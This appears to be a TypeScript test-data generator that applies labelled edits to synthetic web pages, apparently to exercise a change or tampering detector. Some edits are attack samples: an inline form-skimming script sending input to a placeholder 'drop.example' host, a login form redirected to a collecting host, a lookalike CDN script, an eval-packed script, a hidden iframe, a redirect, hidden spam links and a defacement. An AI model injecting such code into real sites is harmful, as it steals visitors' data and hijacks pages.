import { type Page, sentence } from "./page.ts";
import type { Random } from "./random.ts";

/** Every kind of real edit or attack; each changes the page's content or behavior in one way. */
export const edits: Record<string, (page: Page, random: Random) => Page> = {
  "sentence-added": (page, random) =>
    editParagraph(page, random, (text) => `${text} ${sentence(random)} No exceptions apply.`),
  "sentence-removed": (page, random) =>
    editParagraph(page, random, (text) => text.replace(/^[^.]*\. ?/, "") || "Void."),
  "word-changed": (page, random) =>
    editParagraph(page, random, (text) =>
      text.replace(/ (may|must|can|should|is|has|agrees|receives)\b/, " never"),
    ),
  "paragraph-added": (page, random) =>
    editSection(page, random, (list) => [...list, `New rule: ${sentence(random)}`]),
  "price-changed": (page, random) => replaceItem(page, random, "49.00 €", "59.00 €"),
  "deadline-changed": (page, random) =>
    replaceItem(page, random, "Apply before 12 March 2026.", "Apply before 30 April 2026."),
  "version-changed": (page, random) =>
    replaceItem(page, random, "Current release: 4.2.1", "Current release: 4.2.2"),
  "heading-changed": (page) => ({ ...page, heading: `${page.heading} (withdrawn)` }),
  "title-changed": (page) => ({ ...page, title: `Notice: ${page.title}` }),
  "item-added": (page) => ({
    ...page,
    items: [...page.items, "precise location collected in the background"],
  }),
  "item-removed": (page) => ({ ...page, items: page.items.slice(1) }),
  "cell-changed": (page) => ({
    ...page,
    table: page.table.map(([town, value], index) => [town, index === 1 ? String(Number(value) + 1) : value]),
  }),
  "row-added": (page) => ({ ...page, table: [...page.table, ["Zellwick", "77"]] }),
  "link-path": (page) => ({
    ...page,
    links: page.links.map((link, at) => (at === 0 ? { ...link, href: `${link.href}/archive` } : link)),
  }),
  "link-host": (page) => ({
    ...page,
    links: page.links.map((link, at) =>
      at === 0 ? { ...link, href: "https://mirror-files.example/guide" } : link,
    ),
  }),
  "menu-item": (page) => ({ ...page, menu: [...page.menu, { text: "Status page", href: "/status-page" }] }),
  "menu-host": (page) => ({
    ...page,
    menu: page.menu.map((item, at) =>
      at === 0 ? { ...item, href: "https://promo-landing.example/" } : item,
    ),
  }),
  "mail-changed": (page) => ({ ...page, mail: page.mail.replace(".test", "-help.example") }),
  "form-target": (page) => ({ ...page, formAction: "https://collect-login.example/in" }),
  "password-form": (page) => ({ ...page, password: true }),
  "script-host": (page) => ({
    ...page,
    inHead: `<script src="https://cdn.jq-static.example/jquery.min.js"></script>`,
  }),
  "script-inline": (page) => ({
    ...page,
    inBody: `<script>document.forms[0].addEventListener("submit",function(e){new Image().src="//drop.example/?"+btoa(e.target.q.value)})</script>`,
  }),
  "script-packed": (page) => ({ ...page, inBody: `<script>eval(atob("YWxlcnQoMSk="))</script>` }),
  "frame-added": (page) => ({
    ...page,
    inBody: `<iframe src="https://offers.example/x" width="1" height="1"></iframe>`,
  }),
  "refresh-added": (page) => ({
    ...page,
    inHead: `<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">`,
  }),
  "hidden-spam": (page) => ({
    ...page,
    inBody: `<div style="position:absolute;left:-9999px"><a href="https://lucky-slots.example/">best casino bonus</a></div>`,
  }),
  "hidden-links": (page) => ({
    ...page,
    inBody: `<div style="display:none"><a href="https://backlinks.example/a">gardening shears</a></div>`,
  }),
  defaced: (page) => ({
    ...page,
    title: "Owned",
    heading: "Hacked by Paper Tigers",
    sections: [],
    items: [],
    table: [],
    links: [],
    menu: [],
    footer: [],
  }),
  footer: (page) => ({
    ...page,
    footer: page.footer.map((line) => line.replace(/^(\w+) Ltd/, "$1 Holdings GmbH")),
  }),
};

/** Prepares a page for an edit that needs something present in both versions. */
export function prepare(edit: string, page: Page): Page {
  const [, item] = itemTexts[edit] ?? [];
  if (edit === "password-form") return { ...page, password: false };
  return item ? { ...page, items: [...page.items, item] } : page;
}

const itemTexts: Record<string, [string, string]> = {
  "price-changed": ["price", "49.00 €"],
  "deadline-changed": ["deadline", "Apply before 12 March 2026."],
  "version-changed": ["version", "Current release: 4.2.1"],
};

function replaceItem(page: Page, _random: Random, before: string, after: string): Page {
  return { ...page, items: page.items.map((item) => (item === before ? after : item)) };
}

function editSection(page: Page, random: Random, change: (paragraphs: string[]) => string[]): Page {
  const chosen = random.below(page.sections.length);
  return {
    ...page,
    sections: page.sections.map((section, at) =>
      at === chosen ? { ...section, paragraphs: change(section.paragraphs) } : section,
    ),
  };
}

function editParagraph(page: Page, random: Random, change: (text: string) => string): Page {
  return editSection(page, random, (paragraphs) => {
    const chosen = random.below(paragraphs.length);
    return paragraphs.map((text, at) => (at === chosen ? change(text) : text));
  });
}
